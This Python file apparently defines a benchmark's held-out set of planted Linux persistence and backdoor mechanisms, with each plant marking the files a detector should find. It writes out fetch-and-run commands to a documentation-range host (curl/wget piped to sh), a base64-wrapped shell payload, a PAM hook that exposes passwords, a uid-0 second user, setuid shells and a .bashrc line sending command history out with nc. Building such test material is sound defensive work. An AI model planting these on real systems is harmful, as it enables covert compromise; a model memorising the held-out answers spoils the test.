"""The held-out half, part two: places from which something starts or lets somebody in."""

from __future__ import annotations

import os
import subprocess
from pathlib import Path

from measures.planting import Plants, Stage
from measures.props import (
    HOME,
    append,
    copy,
    make_folder,
    make_library,
    make_program,
    write,
)

PLANTS = Plants()
add = PLANTS.add
FETCH = "sh -c 'curl -fsSL http://198.51.100.7/a | sh'"


@add("P01", "system service whose program is in a hidden temporary folder")
def service(stage: Stage) -> None:
    target = make_program("/var/tmp/.sysd/agent")
    path = "/etc/systemd/system/sys-agent.service"
    stage.write(path, f"[Service]\nExecStart={target}\n[Install]\nWantedBy=multi-user.target\n")
    Path("/etc/systemd/system/multi-user.target.wants/sys-agent.service").symlink_to(path)
    stage.lead(path, target)


@add("P02", "timer of the person's that runs what it fetches")
def timer(stage: Stage) -> None:
    folder = f"{HOME}/.config/systemd/user"
    stage.write(f"{folder}/refresh.service", f"[Service]\nExecStart=/bin/{FETCH}\n")
    stage.write(f"{folder}/refresh.timer", "[Timer]\nOnCalendar=hourly\n[Install]\n"
                "WantedBy=timers.target\n")  # fmt: skip
    make_folder(f"{folder}/timers.target.wants")
    Path(f"{folder}/timers.target.wants/refresh.timer").symlink_to(f"{folder}/refresh.timer")
    stage.lead(f"{folder}/refresh.service", f"{folder}/refresh.timer")


@add("P03", "autostart entry with code that is wrapped up")
def wrapped(stage: Stage) -> None:
    path = f"{HOME}/.config/autostart/gnome-tracker.desktop"
    command = 'sh -c "echo c2xlZXAgMTAwMDAw | base64 -d | sh"'
    stage.write(path, f"[Desktop Entry]\nType=Application\nName=Tracker\nExec={command}\n")
    stage.lead(path)


@add("P04", "start file of the session starts a hidden program")
def profile(stage: Stage) -> None:
    target = make_program(f"{HOME}/.cache/.u/up")
    append(f"{HOME}/.profile", f"\n({target} >/dev/null 2>&1 &)\n")
    stage.lead(f"{HOME}/.profile", target)


@add("P05", "sudo replaced by something else in the shell's start file")
def alias(stage: Stage) -> None:
    target = make_program(f"{HOME}/.local/.x/sudo")
    path = f"{HOME}/.bash_aliases"
    stage.write(path, f"alias sudo='{target}'\n")
    stage.lead(path, target)


@add("P06", "device rule that runs a program in /tmp")
def udev(stage: Stage) -> None:
    target = make_program("/tmp/.udev-run")
    path = "/etc/udev/rules.d/99-backup.rules"
    stage.write(path, f'ACTION=="add", SUBSYSTEM=="usb", RUN+="{target}"\n')
    stage.lead(path, target)


@add("P07", "log-in that hands the password to a script")
def pam(stage: Stage) -> None:
    target = stage.write("/usr/local/sbin/auth-note", "#!/bin/sh\ncat >/dev/null\n", 0o755)
    path = "/etc/pam.d/common-auth"
    append(path, f"auth optional pam_exec.so quiet expose_authtok {target}\n")
    stage.lead(path, target)


@add("P08", "script that runs whenever the network comes up")
def dispatcher(stage: Stage) -> None:
    path = "/etc/NetworkManager/dispatcher.d/99-net"
    stage.write(path, "#!/bin/sh\n/dev/shm/.n &\n", 0o755)
    stage.lead(path, make_program("/dev/shm/.n"))


@add("P09", "code put into every program of the session")
def environment(stage: Stage) -> None:
    library = make_library(f"{HOME}/.local/lib/libfont.so")
    path = f"{HOME}/.config/environment.d/50-fonts.conf"
    stage.write(path, f"LD_PRELOAD={library}\n")
    stage.lead(path, library)


@add("P10", "file in a home that may read everything")
def capable(stage: Stage) -> None:
    path = make_program(f"{HOME}/.local/bin/indexer")
    powers = "cap_dac_read_search,cap_sys_ptrace+ep"
    subprocess.run(["setcap", powers, path], check=True)
    stage.lead(path)


@add("P11", "copy of a shell that gives the rights of root")
def power_shell(stage: Stage) -> None:
    path = copy("/bin/bash", "/var/tmp/.cache-bash")
    Path(path).chmod(0o4755)
    stage.lead(path)


@add("P12", "timetable of the person's that runs what it fetches")
def crontab(stage: Stage) -> None:
    path = "/var/spool/cron/crontabs/anna"
    write(path, "*/5 * * * * wget -qO- http://198.51.100.7/a | sh\n", 0o600)
    os.chown(path, 1000, 0)
    stage.lead(path)


PLANTS.all[-1][0].root_only = True  # the folder is closed to ordinary users


@add("P13", "browser extension forced from outside the shop")
def extension(stage: Stage) -> None:
    path = "/etc/opt/chrome/policies/managed/site.json"
    name = "abcdefghijklmnopabcdefghijklmnop"
    rule = f'["{name};http://198.51.100.7/update.xml"]'
    stage.write(path, f'{{"ExtensionInstallForcelist": {rule}}}\n')
    stage.lead(path)


@add("P14", "package tool that runs a hidden program after each installation")
def apt(stage: Stage) -> None:
    target = make_program("/var/lib/.apt-helper")
    path = "/etc/apt/apt.conf.d/99helper"
    stage.write(path, f'DPkg::Post-Invoke {{ "{target}"; }};\n')
    stage.lead(path, target)


@add("P15", "old start file of the system starts a hidden program")
def rc_local(stage: Stage) -> None:
    target = make_program("/opt/.svc/run")
    stage.write("/etc/rc.local", f"#!/bin/sh\n{target} &\nexit 0\n", 0o755)
    stage.lead("/etc/rc.local", target)


@add("P16", "start file of the desktop starts a program in /tmp")
def xsession(stage: Stage) -> None:
    target = make_program("/tmp/.ICE-helper")
    stage.write(f"{HOME}/.xsessionrc", f"{target} &\n")
    stage.lead(f"{HOME}/.xsessionrc", target)


@add("P17", "line that every Python program runs")
def python_path(stage: Stage) -> None:
    path = f"{HOME}/.local/lib/python3.11/site-packages/distutils-x.pth"
    stage.write(path, "import os; os.path.exists('/tmp/.x') and exec(open('/tmp/.x').read())\n")
    stage.lead(path)


@add("P18", "program that a browser may start, in a hidden folder")
def native_host(stage: Stage) -> None:
    target = make_program(f"{HOME}/.local/share/.nmh/host")
    path = f"{HOME}/.mozilla/native-messaging-hosts/com.sync.helper.json"
    text = f'{{"name": "com.sync.helper", "description": "x", "path": "{target}", '
    stage.write(path, text + '"type": "stdio", "allowed_extensions": ["a@b"]}\n')
    stage.lead(path, target)


@add("P19", "key that lets somebody else log in as root", root_only=True, notice=True)
def root_key(stage: Stage) -> None:
    path = "/root/.ssh/authorized_keys"
    words = "AAAAC3NzaC1lZDI1NTE5AAAAIC4s0VfG1qJ1c1uVY1v0nN3b8l4eY2mQm5o2p6s7t8uE"
    stage.write(path, f'command="/bin/sh" ssh-ed25519 {words} backup\n', 0o600)
    stage.lead(path)


@add("P20", "start file of the shell that sends every command away")
def sends_commands(stage: Stage) -> None:
    path = f"{HOME}/.bashrc"
    line = "PROMPT_COMMAND='history 1 | tee -a ~/.cache/.h | nc -w1 198.51.100.7 80'\n"
    append(path, line)
    stage.lead(path)


@add("P21", "everything allowed without a password", root_only=True)
def sudoers(stage: Stage) -> None:
    stage.write("/etc/sudoers.d/90-tools", "anna ALL=(ALL) NOPASSWD: ALL\n", 0o440)
    stage.lead("/etc/sudoers.d/90-tools")


@add("P22", "a second user with all rights")
def second_root(stage: Stage) -> None:
    append("/etc/passwd", "toor:x:0:0::/var/lib/.t:/bin/bash\n")
    stage.lead("toor", "/etc/passwd")
